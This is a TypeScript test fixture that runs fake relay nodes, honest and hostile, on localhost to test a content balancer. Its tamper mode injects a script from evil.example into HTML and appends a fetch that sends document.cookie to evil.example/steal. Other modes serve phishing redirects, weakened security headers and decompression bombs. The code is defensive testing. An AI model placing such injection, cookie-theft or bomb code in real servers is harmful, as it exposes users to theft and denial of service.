import { createServer, request, type IncomingHttpHeaders, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { constants as zlibConstants, createBrotliCompress, createDeflate, createGzip, gzipSync } from 'node:zlib';

// Volunteer nodes for balancer tests, honest and hostile, as real HTTP servers. An honest node
// fetches what it is asked from the origin (Host picks the site; Range and Accept-Encoding are
// passed on) and relays the origin's answer; each hostile mode misbehaves in one way.

export type NodeMode =
  | 'honest' | 'set-cookie' | 'redirect' | 'weak-headers' | 'tamper' | 'truncate' | 'garbage-status' | 'bad-header'
  | 'huge-headers' | 'hang' | 'drip' | 'endless' | 'error500' | 'slow-body' | 'refuse'
  /** Honest bytes, but always gzip-compressed, whatever the request accepts. */
  | 'gzip'
  /** Honest bytes under other metadata: TEXT/HTML, a year of max-age, its own ETag. */
  | 'relabel'
  /** Empty answers where the origin has bytes. */
  | 'status-204' | 'status-304'
  /** Honest answers, sent 64 KiB at a time every 10 ms. */
  | 'slow-honest'
  /** Decompression bombs: a few KiB that inflate to 512 MiB of zeros. */
  | 'bomb-br' | 'bomb-gzip' | 'bomb-deflate';

export interface SeenRequest {
  method: string;
  url: string;
  headers: IncomingHttpHeaders;
  rawHeaders: string[];
}

export interface HostileNode {
  url: string;
  requests: SeenRequest[];
  /** Sockets open right now (connections from the balancer). */
  openSockets(): number;
  setMode(mode: NodeMode): void;
  close(): Promise<void>;
}

function openOrigin(origin: string, req: IncomingMessage): Promise<IncomingMessage> {
  return new Promise((resolve, reject) => {
    const headers: Record<string, string> = { host: req.headers.host ?? '', 'accept-encoding': String(req.headers['accept-encoding'] ?? 'identity') };
    if (typeof req.headers.range === 'string') headers.range = req.headers.range;
    const up = request(new URL(req.url ?? '/', origin), { method: 'GET', agent: false, headers }, resolve);
    up.on('error', reject);
    up.end();
  });
}

async function fetchOrigin(origin: string, req: IncomingMessage): Promise<{ status: number; headers: IncomingHttpHeaders; body: Buffer }> {
  const res = await openOrigin(origin, req);
  const chunks: Buffer[] = [];
  for await (const c of res as AsyncIterable<Buffer>) chunks.push(c);
  return { status: res.statusCode ?? 502, headers: res.headers, body: Buffer.concat(chunks) };
}

/** Bodies this large are streamed through (honest, or with one byte flipped past the first pieces). */
const STREAM_FROM = 2 * 1024 * 1024;
const FLIP_AT = 3 * 1024 * 1024 + 10;

async function stream(origin: string, mode: NodeMode, req: IncomingMessage, res: ServerResponse): Promise<boolean> {
  const up = await openOrigin(origin, req);
  const length = Number(up.headers['content-length'] ?? 0);
  if (length < STREAM_FROM || (mode !== 'honest' && mode !== 'tamper')) {
    // Small: hand it back to the buffered relay.
    (req as IncomingMessage & { preopened?: IncomingMessage }).preopened = up;
    return false;
  }
  const headers: Record<string, string | string[] | number> = {};
  for (const [n, v] of Object.entries(up.headers)) if (v !== undefined && !HOP.has(n)) headers[n] = v;
  headers['content-length'] = length;
  res.writeHead(up.statusCode ?? 502, headers);
  const start = Number(/^bytes (\d+)-/.exec(String(up.headers['content-range'] ?? ''))?.[1] ?? 0);
  let at = start;
  up.on('data', (chunk: Buffer) => {
    if (mode === 'tamper' && at <= FLIP_AT && FLIP_AT < at + chunk.length) {
      const copy = Buffer.from(chunk);
      copy[FLIP_AT - at] = (copy[FLIP_AT - at] ?? 0) ^ 0xff;
      chunk = copy;
    }
    at += chunk.length;
    if (!res.write(chunk)) {
      up.pause();
      res.once('drain', () => up.resume());
    }
  });
  up.on('end', () => res.end());
  res.on('close', () => up.destroy());
  return true;
}

async function collect(res: IncomingMessage): Promise<{ status: number; headers: IncomingHttpHeaders; body: Buffer }> {
  const chunks: Buffer[] = [];
  for await (const c of res as AsyncIterable<Buffer>) chunks.push(c);
  return { status: res.statusCode ?? 502, headers: res.headers, body: Buffer.concat(chunks) };
}

function tamper(body: Buffer, label: string): Buffer {
  const type = label.toLowerCase();
  if (type.includes('html')) return Buffer.from(body.toString('utf8').replace('</body>', '<script src="https://evil.example/x.js"></script></body>'));
  if (type.includes('javascript')) return Buffer.concat([body, Buffer.from('\n;fetch("https://evil.example/steal?c="+document.cookie);\n')]);
  const copy = Buffer.from(body);
  if (copy.length > 10) copy[10] = (copy[10] ?? 0) ^ 0xff;
  return copy;
}

const HOP = new Set(['connection', 'keep-alive', 'transfer-encoding', 'content-length']);

/** An honest node relays the origin's status and headers; each mode changes one thing. */
async function relay(origin: string, mode: NodeMode, req: IncomingMessage, res: ServerResponse): Promise<void> {
  if (await stream(origin, mode, req, res)) return;
  const pre = (req as IncomingMessage & { preopened?: IncomingMessage }).preopened;
  const up = pre ? await collect(pre) : await fetchOrigin(origin, req);
  const type = String(up.headers['content-type'] ?? 'application/octet-stream');
  const body = mode === 'tamper' ? tamper(up.body, type) : mode === 'gzip' ? gzipSync(up.body) : up.body;
  const headers: Record<string, string | string[] | number> = {};
  for (const [n, v] of Object.entries(up.headers)) if (v !== undefined && !HOP.has(n)) headers[n] = v;
  headers['content-length'] = body.length;
  if (mode === 'gzip') headers['content-encoding'] = 'gzip';
  if (mode === 'set-cookie') headers['set-cookie'] = 'tracker=node-was-here; Path=/';
  if (mode === 'relabel') Object.assign(headers, { 'content-type': 'TEXT/HTML; charset=utf-8', 'cache-control': 'public, max-age=31536000, immutable', etag: '"node-own-etag"' });
  if (mode === 'weak-headers') {
    Object.assign(headers, {
      'strict-transport-security': 'max-age=0', 'content-security-policy': 'default-src *', 'clear-site-data': '"*"',
      'alt-svc': 'h3=":443"; ma=86400', 'access-control-allow-origin': '*', link: '<https://evil.example/x.js>; rel=preload', refresh: '0; url=https://evil.example/',
    });
  }
  res.writeHead(up.status, headers);
  if (mode === 'slow-honest' && req.method !== 'HEAD') return slowly(res, body);
  res.end(req.method === 'HEAD' ? undefined : body);
}

function slowly(res: ServerResponse, body: Buffer): void {
  let at = 0;
  const t = setInterval(() => {
    if (res.destroyed) return clearInterval(t);
    res.write(body.subarray(at, at + 64 * 1024));
    at += 64 * 1024;
    if (at >= body.length) {
      clearInterval(t);
      res.end();
    }
  }, 10);
}

const bombs = new Map<string, Buffer>();

/**
 * 512 MiB of zeros, compressed once per coding (brotli: a few KiB). Made with a stream from one
 * 64 MiB block, so making it never holds 512 MiB (call it before measuring anything).
 */
export async function prepareBomb(coding: string): Promise<Buffer> {
  const made = bombs.get(coding);
  if (made) return made;
  const zeros = Buffer.alloc(64 * 1024 * 1024);
  const z = coding === 'br' ? createBrotliCompress({ params: { [zlibConstants.BROTLI_PARAM_QUALITY]: 5 } }) : coding === 'gzip' ? createGzip({ level: 9 }) : createDeflate({ level: 9 });
  const out: Buffer[] = [];
  z.on('data', (c: Buffer) => out.push(c));
  const done = new Promise<void>((resolve, reject) => {
    z.on('end', resolve);
    z.on('error', reject);
  });
  for (let i = 0; i < 8; i++) if (!z.write(zeros)) await new Promise((r) => z.once('drain', r));
  z.end();
  await done;
  const bomb = Buffer.concat(out);
  bombs.set(coding, bomb);
  return bomb;
}

function bombOf(coding: string): Buffer {
  const b = bombs.get(coding);
  if (!b) throw new Error(`prepareBomb('${coding}') first`);
  return b;
}

function raw(socket: Socket, text: string): void {
  socket.end(text);
}

function misbehave(mode: NodeMode, req: IncomingMessage, res: ServerResponse, timers: Set<NodeJS.Timeout>): boolean {
  const socket = req.socket;
  switch (mode) {
    case 'redirect':
      res.writeHead(302, { location: 'https://evil.example/phish', 'content-length': 0 });
      res.end();
      return true;
    case 'truncate':
      socket.write('HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 100\r\n\r\nhello');
      socket.destroy();
      return true;
    case 'garbage-status':
      raw(socket, 'HTTP/1.1 ABC this is not a status\r\n\r\n');
      return true;
    case 'bad-header':
      raw(socket, 'HTTP/1.1 200 OK\r\nX-Bad: a\x01b\r\nContent-Length: 2\r\n\r\nok');
      return true;
    case 'huge-headers':
      raw(socket, `HTTP/1.1 200 OK\r\nX-Huge: ${'a'.repeat(20_000)}\r\nContent-Length: 2\r\n\r\nok`);
      return true;
    case 'hang':
      return true;
    case 'bomb-br':
    case 'bomb-gzip':
    case 'bomb-deflate': {
      const coding = mode.slice(5);
      const bomb = bombOf(coding);
      res.writeHead(200, { 'content-type': 'text/html', 'content-encoding': coding, 'content-length': bomb.length });
      res.end(bomb);
      return true;
    }
    case 'status-204':
    case 'status-304':
      res.writeHead(mode === 'status-204' ? 204 : 304, { 'cache-control': 'public, max-age=31536000', etag: '"node-own-etag"' });
      res.end();
      return true;
    case 'error500':
      res.writeHead(500, { 'content-length': 4 });
      res.end('boom');
      return true;
    case 'drip':
    case 'endless':
    case 'slow-body': {
      const slow = mode === 'slow-body';
      res.writeHead(200, slow ? { 'content-type': 'text/html', 'content-length': 1024 * 1024 } : { 'content-type': 'text/html' });
      const chunk = Buffer.alloc(mode === 'drip' ? 1 : 16 * 1024, 'x');
      const t = setInterval(() => {
        if (res.destroyed) return clearInterval(t);
        res.write(chunk);
      }, mode === 'drip' ? 300 : slow ? 50 : 1);
      timers.add(t);
      return true;
    }
    default:
      return false;
  }
}

export async function startHostileNode(opts: { origin: string; mode?: NodeMode }): Promise<HostileNode> {
  let mode: NodeMode = opts.mode ?? 'honest';
  const requests: SeenRequest[] = [];
  const sockets = new Set<Socket>();
  const timers = new Set<NodeJS.Timeout>();
  const server: Server = createServer((req, res) => {
    if (req.url === '/.well-known/verity/health') {
      if (mode === 'hang') return;
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end('{"ok":true}');
      return;
    }
    requests.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, rawHeaders: req.rawHeaders });
    if (mode === 'refuse') {
      req.socket.destroy();
      return;
    }
    if (misbehave(mode, req, res, timers)) return;
    relay(opts.origin, mode, req, res).catch(() => res.destroy());
  });
  server.on('connection', (s: Socket) => {
    sockets.add(s);
    s.on('close', () => sockets.delete(s));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    requests,
    openSockets: () => sockets.size,
    setMode: (m) => {
      mode = m;
    },
    close: () => new Promise<void>((resolve) => {
      for (const t of timers) clearInterval(t);
      for (const s of sockets) s.destroy();
      server.close(() => resolve());
    }),
  };
}
